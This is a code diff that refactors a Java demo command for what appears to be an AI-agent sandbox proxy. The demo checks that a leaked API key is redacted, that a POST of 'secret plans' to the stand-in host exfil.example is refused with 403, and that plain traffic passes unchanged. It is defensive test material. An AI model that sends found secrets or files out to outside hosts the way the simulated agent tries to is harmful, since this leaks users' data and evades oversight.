@@ -51,6 +51,23 @@ final class DemoCommand implements Callable<Integer> {
     private record Received(String method, String path, Map<String, List<String>> headers, String body) {
     }
 
+    /** The demo's upstream: it records what it receives and answers every request with a chat completion. */
+    private record Upstream(HttpServer server, List<Received> received, AtomicInteger hits) {
+        int port() {
+            return server.getAddress().getPort();
+        }
+
+        Received last() {
+            synchronized (received) {
+                return received.isEmpty() ? null : received.get(received.size() - 1);
+            }
+        }
+    }
+
+    /** The demo's files under its work directory. */
+    private record DemoFiles(Path policy, Path gateway, Path audit, Path plugins) {
+    }
+
     @Override
     public Integer call() throws Exception {
         PrintWriter out = spec.commandLine().getOut();
@@ -58,16 +75,46 @@ final class DemoCommand implements Callable<Integer> {
         Main.logLevel("io.helidon", java.util.logging.Level.WARNING);
         Main.logLevel("dev.openshell.supervisor", java.util.logging.Level.SEVERE);
         Path work = Files.createTempDirectory("supervisor-demo");
+        Upstream upstream = startUpstream();
+        DemoFiles files = writeFiles(work, upstream.port());
+        boolean ok;
+        out.println("== OpenShell supervisor demo ==");
+        out.println("upstream (records what it receives): 127.0.0.1:" + upstream.port());
+        try (Supervisor supervisor = Supervisor.start(new Supervisor.Options(Optional.of(files.policy()),
+                Optional.of(files.gateway()), Optional.of("127.0.0.1:0"), Optional.of(files.plugins()),
+                Optional.of(work.resolve("state")), Optional.of(files.audit().toString()), Optional.of("off"),
+                Map.of()))) {
+            out.println("supervisor listening on 127.0.0.1:" + supervisor.port()
+                    + " (policy: api.model.example allowed; openshell/regex redacts secrets on it)");
+            HttpClient client = HttpClient.newBuilder()
+                    .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", supervisor.port())))
+                    .connectTimeout(Duration.ofSeconds(5)).build();
+            ok = redactsKey(out, client, upstream) & refusesHost(out, client, upstream)
+                    & forwardsPlain(out, client, upstream);
+        } catch (Supervisor.StartupException e) {
+            out.println("supervisor could not start: " + e.getMessage());
+            ok = false;
+        } finally {
+            upstream.server().stop(0);
+        }
+        printAudit(out, files.audit());
+        out.println();
+        out.println(ok ? "demo passed: every step behaved as expected" : "demo FAILED: see the steps above");
+        out.flush();
+        return ok ? 0 : 1;
+    }
+
+    private static Upstream startUpstream() throws IOException {
         List<Received> received = new ArrayList<>();
-        AtomicInteger upstreamHits = new AtomicInteger();
-        HttpServer upstream = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
-        upstream.createContext("/", exchange -> {
+        AtomicInteger hits = new AtomicInteger();
+        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
+        server.createContext("/", exchange -> {
             byte[] body = exchange.getRequestBody().readAllBytes();
             synchronized (received) {
                 received.add(new Received(exchange.getRequestMethod(), exchange.getRequestURI().getPath(),
                         Map.copyOf(exchange.getRequestHeaders()), new String(body, StandardCharsets.UTF_8)));
             }
-            upstreamHits.incrementAndGet();
+            hits.incrementAndGet();
             byte[] reply = "{\"id\":\"chatcmpl-demo\",\"choices\":[{\"message\":{\"content\":\"ok\"}}]}"
                     .getBytes(StandardCharsets.UTF_8);
             exchange.getResponseHeaders().add("Content-Type", "application/json");
@@ -75,8 +122,11 @@ final class DemoCommand implements Callable<Integer> {
             exchange.getResponseBody().write(reply);
             exchange.close();
         });
-        upstream.start();
-        int up = upstream.getAddress().getPort();
+        server.start();
+        return new Upstream(server, received, hits);
+    }
+
+    private static DemoFiles writeFiles(Path work, int up) throws IOException {
         Path policy = work.resolve("policy.yaml");
         Files.writeString(policy, """
                 version: 1
@@ -105,66 +155,57 @@ final class DemoCommand implements Callable<Integer> {
                 "api.model.example" = "127.0.0.1"
                 "exfil.example" = "127.0.0.1"
                 """);
-        Path audit = work.resolve("audit.jsonl");
         // an empty plugins directory: the supervisor refuses to start with one that does not exist
         Path plugins = Files.createDirectories(work.resolve("plugins"));
-        boolean ok = true;
-        out.println("== OpenShell supervisor demo ==");
-        out.println("upstream (records what it receives): 127.0.0.1:" + up);
-        try (Supervisor supervisor = Supervisor.start(new Supervisor.Options(Optional.of(policy),
-                Optional.of(gateway), Optional.of("127.0.0.1:0"), Optional.of(plugins),
-                Optional.of(work.resolve("state")), Optional.of(audit.toString()), Optional.of("off"), Map.of()))) {
-            out.println("supervisor listening on 127.0.0.1:" + supervisor.port()
-                    + " (policy: api.model.example allowed; openshell/regex redacts secrets on it)");
-            HttpClient client = HttpClient.newBuilder()
-                    .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", supervisor.port())))
-                    .connectTimeout(Duration.ofSeconds(5)).build();
+        return new DemoFiles(policy, gateway, work.resolve("audit.jsonl"), plugins);
+    }
 
-            out.println();
-            out.println("1. The agent sends a chat completion that carries an API key it found in a file.");
-            String chat = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":"
-                    + "\"Deploy with this key: " + FAKE_KEY + "\"}]}";
-            HttpResponse<String> r1 = client.send(HttpRequest.newBuilder(
-                    URI.create("http://api.model.example:" + up + "/v1/chat/completions"))
-                    .header("Content-Type", "application/json")
-                    .POST(HttpRequest.BodyPublishers.ofString(chat)).build(), HttpResponse.BodyHandlers.ofString());
-            Received got = last(received);
-            out.println("   agent sent:        " + chat.replace(FAKE_KEY, mask(FAKE_KEY)));
-            out.println("   upstream received: " + (got == null ? "(nothing)" : got.body()));
-            out.println("   agent got:         HTTP " + r1.statusCode());
-            boolean redacted = r1.statusCode() == 200 && got != null && !got.body().contains(FAKE_KEY)
-                    && got.body().contains("REDACTED");
-            ok &= check(out, redacted, "the key was redacted before it left the sandbox");
+    private static boolean redactsKey(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
+        out.println();
+        out.println("1. The agent sends a chat completion that carries an API key it found in a file.");
+        String chat = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":"
+                + "\"Deploy with this key: " + FAKE_KEY + "\"}]}";
+        HttpResponse<String> r1 = client.send(HttpRequest.newBuilder(
+                URI.create("http://api.model.example:" + upstream.port() + "/v1/chat/completions"))
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofString(chat)).build(), HttpResponse.BodyHandlers.ofString());
+        Received got = upstream.last();
+        out.println("   agent sent:        " + chat.replace(FAKE_KEY, mask(FAKE_KEY)));
+        out.println("   upstream received: " + (got == null ? "(nothing)" : got.body()));
+        out.println("   agent got:         HTTP " + r1.statusCode());
+        boolean redacted = r1.statusCode() == 200 && got != null && !got.body().contains(FAKE_KEY)
+                && got.body().contains("REDACTED");
+        return check(out, redacted, "the key was redacted before it left the sandbox");
+    }
 
-            out.println();
-            out.println("2. The agent tries a host the policy does not allow.");
-            int before = upstreamHits.get();
-            HttpResponse<String> r2 = client.send(HttpRequest.newBuilder(
-                    URI.create("http://exfil.example:" + up + "/upload"))
-                    .POST(HttpRequest.BodyPublishers.ofString("{\"notes\":\"secret plans\"}")).build(),
-                    HttpResponse.BodyHandlers.ofString());
-            out.println("   agent got:         HTTP " + r2.statusCode() + " " + r2.body());
-            ok &= check(out, r2.statusCode() == 403 && upstreamHits.get() == before,
-                    "refused with 403; the upstream never saw it");
+    private static boolean refusesHost(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
+        out.println();
+        out.println("2. The agent tries a host the policy does not allow.");
+        int before = upstream.hits().get();
+        HttpResponse<String> r2 = client.send(HttpRequest.newBuilder(
+                URI.create("http://exfil.example:" + upstream.port() + "/upload"))
+                .POST(HttpRequest.BodyPublishers.ofString("{\"notes\":\"secret plans\"}")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        out.println("   agent got:         HTTP " + r2.statusCode() + " " + r2.body());
+        return check(out, r2.statusCode() == 403 && upstream.hits().get() == before,
+                "refused with 403; the upstream never saw it");
+    }
 
-            out.println();
-            out.println("3. The agent sends an ordinary request with nothing to redact.");
-            String plain = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"Hello\"}]}";
-            HttpResponse<String> r3 = client.send(HttpRequest.newBuilder(
-                    URI.create("http://api.model.example:" + up + "/v1/chat/completions"))
-                    .header("Content-Type", "application/json")
-                    .POST(HttpRequest.BodyPublishers.ofString(plain)).build(), HttpResponse.BodyHandlers.ofString());
-            Received got3 = last(received);
-            out.println("   upstream received: " + (got3 == null ? "(nothing)" : got3.body()));
-            ok &= check(out, r3.statusCode() == 200 && got3 != null && got3.body().equals(plain),
-                    "forwarded unchanged");
-        } catch (Supervisor.StartupException e) {
-            out.println("supervisor could not start: " + e.getMessage());
-            ok = false;
-        } finally {
-            upstream.stop(0);
-        }
+    private static boolean forwardsPlain(PrintWriter out, HttpClient client, Upstream upstream) throws Exception {
+        out.println();
+        out.println("3. The agent sends an ordinary request with nothing to redact.");
+        String plain = "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"Hello\"}]}";
+        HttpResponse<String> r3 = client.send(HttpRequest.newBuilder(
+                URI.create("http://api.model.example:" + upstream.port() + "/v1/chat/completions"))
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofString(plain)).build(), HttpResponse.BodyHandlers.ofString());
+        Received got3 = upstream.last();
+        out.println("   upstream received: " + (got3 == null ? "(nothing)" : got3.body()));
+        return check(out, r3.statusCode() == 200 && got3 != null && got3.body().equals(plain),
+                "forwarded unchanged");
+    }
 
+    private static void printAudit(PrintWriter out, Path audit) throws IOException {
         out.println();
         out.println("Decisions and findings from the audit log (" + audit + "):");
         for (String line : Files.exists(audit) ? Files.readAllLines(audit) : List.<String>of()) {
@@ -180,16 +221,6 @@ final class DemoCommand implements Callable<Integer> {
                     e.getString("severity"), os.getString("config_key"), os.getString("binding_id"),
                     os.containsKey("finding_type") ? "finding " + os.getString("finding_type") + " x"
                             + os.getInt("count") : "decision " + os.getString("decision", ""));
-        }
-        out.println();
-        out.println(ok ? "demo passed: every step behaved as expected" : "demo FAILED: see the steps above");
-        out.flush();
-        return ok ? 0 : 1;
-    }
-
-    private static Received last(List<Received> received) {
-        synchronized (received) {
-            return received.isEmpty() ? null : received.get(received.size() - 1);
         }
     }
 
